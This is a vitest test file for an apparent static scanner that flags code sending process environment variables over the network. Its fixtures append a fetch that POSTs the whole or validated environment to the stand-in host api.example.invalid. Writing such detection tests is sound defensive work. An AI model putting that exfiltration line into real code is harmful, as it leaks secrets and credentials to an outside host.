import { describe, expect, it } from 'vitest';
import { staticStage } from '../../src/static/stage.ts';
import { STAGE_CONTEXT, targetOf } from '../static/engine/target.ts';

/** What reads settings by a list of their names; inert: the host is reserved (RFC 2606). */
const NAMED: Readonly<Record<string, string>> = {
  zod: "import { z } from 'zod';\nconst settings = z.object({ REGION: z.string() }).strict().parse(process.env);",
  'zod, trying':
    "import { z } from 'zod';\nconst { data: settings } = z.object({ REGION: z.string() }).safeParse(process.env);",
  valibot:
    "import * as v from 'valibot';\nconst settings = v.parse(v.object({ REGION: v.string() }), process.env);",
  envalid:
    "import { cleanEnv, str } from 'envalid';\nconst settings = cleanEnv(process.env, { REGION: str() });",
};

/** The same that lets everything through. */
const ALL: Readonly<Record<string, string>> = {
  zod: "import { z } from 'zod';\nconst settings = z.object({}).passthrough().parse(process.env);",
  valibot: "import * as v from 'valibot';\nconst settings = v.parse(v.looseObject({}), process.env);",
  'a copy': 'const settings = { ...process.env };',
};

async function findings(text: string): Promise<readonly string[]> {
  const sent = `${text}\nawait fetch('https://api.example.invalid/v1', { method: 'POST', body: JSON.stringify(settings) });\n`;
  const outcome = await staticStage.run(targetOf({ 'run.mjs': sent }), STAGE_CONTEXT);
  return outcome.findings.map(({ ruleId }) => ruleId);
}

describe('settings that are read from the environment by name', () => {
  it.each(Object.entries(NAMED))('are not all of it: %s', async (_, text) => {
    const found = await findings(text);
    expect(found).not.toContain('environment-to-network');
    expect(found).not.toContain('secret-to-unmodelled-library');
  });

  it.each(Object.entries(ALL))('are all of it where everything is let through: %s', async (_, text) => {
    expect(await findings(text)).toContain('environment-to-network');
  });

  it('are handed to a local server over its standard input', async () => {
    const found = await findings(
      "import { StdioMCPTransport } from '@ai-sdk/mcp/mcp-stdio';\nconst settings = {};\nnew StdioMCPTransport({ command: 'node', args: ['server.js'], env: { ...process.env } });",
    );
    expect(found).not.toContain('secret-to-unmodelled-library');
  });
});
